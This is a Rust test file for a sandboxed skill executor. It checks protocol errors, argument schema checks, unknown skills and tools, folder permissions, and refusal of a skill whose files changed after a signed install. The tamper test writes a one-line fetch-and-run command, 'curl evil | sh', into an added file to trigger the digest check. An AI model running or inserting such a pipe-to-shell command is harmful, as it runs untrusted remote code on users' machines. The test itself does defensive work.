//! How `exec` reports calls that go wrong before or outside the sandbox's limits: broken
//! stdio protocol, arguments that fail the schema, unknown skills and tools, a skill whose
//! files changed after install.

use std::time::Duration;

use serde_json::json;

use super::harness::{assert_mentions, open_up, Manifest, SkillRoot};

#[test]
fn exec_rejects_non_json_stdout_line_as_protocol_error() {
    let root = SkillRoot::new();
    root.python_skill(
        "attack",
        r#"
        print("this is not JSON-RPC", flush=True)
        reply("never read")
        "#,
    );
    let outcome = root.call("attack:run").run();
    let error = outcome.failure("protocol");
    assert_mentions(error, "not JSON-RPC");
    assert_mentions(error, "this is not JSON-RPC");
}

/// The error carries the exit code and the tail of stderr (docs/skill-format.md). Six calls run at
/// once: the stderr tail must not depend on which of stdout's EOF and stderr's last bytes
/// the executor happens to see first.
#[test]
fn exec_reports_exit_before_final_answer_as_protocol_error() {
    let root = SkillRoot::new();
    root.python_skill(
        "attack",
        r#"
        sys.stderr.write("giving up early\n")
        sys.exit(3)
        "#,
    );
    let outcomes: Vec<_> = std::thread::scope(|s| {
        let calls: Vec<_> = (0..6)
            .map(|_| s.spawn(|| root.call("attack:run").run()))
            .collect();
        calls.into_iter().map(|c| c.join().unwrap()).collect()
    });
    let errors: Vec<&str> = outcomes.iter().map(|o| o.failure("protocol")).collect();
    for error in &errors {
        assert_mentions(error, "exited with code 3 before its final answer");
    }
    let without_stderr = errors
        .iter()
        .filter(|e| !e.contains("giving up early"))
        .count();
    assert_eq!(
        without_stderr, 0,
        "{without_stderr} of 6 errors lost the stderr tail: {errors:#?}"
    );
}

#[test]
fn exec_reports_jsonrpc_error_answer_as_tool_error() {
    let root = SkillRoot::new();
    root.python_skill(
        "attack",
        r#"
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": 0, "error": {"code": 7, "message": "no such coin"}}) + "\n")
        sys.stdout.flush()
        "#,
    );
    let outcome = root.call("attack:run").run();
    let error = outcome.failure("tool_error");
    assert_mentions(error, "error 7: no such coin");
}

/// The schema is checked before anything is spawned: the tool would sleep 10 s.
#[test]
fn exec_rejects_invalid_args_before_spawning() {
    let root = SkillRoot::new();
    root.python_skill_with(
        "attack",
        r#"
        time.sleep(10)
        reply("spawned")
        "#,
        Manifest {
            parameters: "{type: object, properties: {count: {type: integer}}, required: [count], additionalProperties: false}",
            ..Default::default()
        },
    );
    let outcome = root
        .call("attack:run")
        .args(json!({ "count": "ten", "extra": true }))
        .run();
    let error = outcome.failure("invalid_args");
    assert_mentions(error, "schema");
    assert_mentions(error, "/count");
    assert!(
        outcome.elapsed < Duration::from_secs(5),
        "{:?}",
        outcome.elapsed
    );
    assert!(outcome.duration_ms() < 1000, "{outcome}");
}

#[test]
fn exec_reports_unknown_tool_as_not_found() {
    let root = SkillRoot::new();
    root.python_skill("attack", r#"reply("ok")"#);
    let outcome = root.call("attack:no_such_tool").run();
    let error = outcome.failure("not_found");
    assert_mentions(error, "no tool \"no_such_tool\"");
}

#[test]
fn exec_reports_unknown_skill_as_not_found() {
    let root = SkillRoot::new();
    let outcome = root.call("no-such-skill:run").run();
    let error = outcome.failure("not_found");
    assert_mentions(error, "no skill named \"no-such-skill\"");
}

#[test]
fn exec_refuses_skill_changed_after_install_as_permission_denied_not_not_found() {
    use skillbox_protocol::skill::{package_digest, InstallLock, LockedSkill, Trust};
    let root = SkillRoot::new();
    let dir = root.python_skill("attack", r#"reply("ran")"#);
    let mut lock = InstallLock::default();
    lock.skills.insert(
        "attack".into(),
        LockedSkill {
            version: Some("1.0.0".into()),
            digest: package_digest(&dir).unwrap().prefixed(),
            trust: Trust::Signed,
            publisher: Some("acme".into()),
            leaf_fingerprint: None,
            publisher_key: None,
            root_fingerprint: None,
            installed_at: "2025-01-01T00:00:00Z".into(),
            origin: None,
        },
    );
    std::fs::write(
        InstallLock::path(root.skills()),
        serde_json::to_vec(&lock).unwrap(),
    )
    .unwrap();
    // Control: as installed, it runs.
    assert_eq!(root.call("attack:run").run().data(), "ran");

    std::fs::write(dir.join("extra.sh"), "curl evil | sh\n").unwrap();
    open_up(&dir.join("extra.sh"));
    let outcome = root.call("attack:run").run();
    let error = outcome.failure("permission_denied");
    assert_mentions(
        error,
        "no longer match the signed digest it was installed with",
    );
    assert_mentions(error, "reinstall it from its signed package");
    assert_mentions(error, "DELETE /v1/skills/attack");
}

/// A skill folder the call's user cannot reach is refused before the tool starts, saying
/// what to change, not with the tool's own "Permission denied".
#[test]
fn exec_names_a_skill_folder_the_call_user_cannot_reach() {
    if !super::harness::running_as_root() {
        eprintln!("not root: calls run as the executor's own user, who owns the folder");
        return;
    }
    let root = SkillRoot::new();
    let dir = root.python_skill("closed", r#"reply("read")"#);
    super::harness::chmod(&dir, 0o700);
    let outcome = root.call("closed:run").run();
    let error = outcome.failure("sandbox");
    assert_mentions(error, "cannot reach");
    assert_mentions(error, "o+rx");
    assert_mentions(error, &dir.display().to_string());
}
